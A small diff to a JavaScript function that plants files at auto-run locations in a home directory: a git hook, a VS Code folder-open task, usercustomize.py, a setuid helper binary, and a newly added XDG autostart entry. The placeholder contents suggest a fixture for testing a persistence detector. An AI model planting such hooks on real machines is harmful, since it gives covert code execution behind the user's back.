@@ -22,6 +22,7 @@ function settle() {
   plant('projects/site/.git/hooks/post-commit', LINE, 0o755);
   plant('projects/site/.vscode/tasks.json', JSON.stringify({ tasks: [{ command: '~/.cache/helper', runOn: 'folderOpen' }] }));
   plant('.local/lib/python3.11/site-packages/usercustomize.py', 'import os\n');
+  plant('.config/autostart/helper.desktop', '[Desktop Entry]\nType=Application\nExec=sh -c ~/.cache/helper\n');
   plant('.cache/helper', LINE, 0o755);
   fs.chmodSync(path.join(home, '.cache/helper'), 0o4755);
   spawnSync('crontab', ['-l'], { stdio: 'ignore', timeout: 5000 });
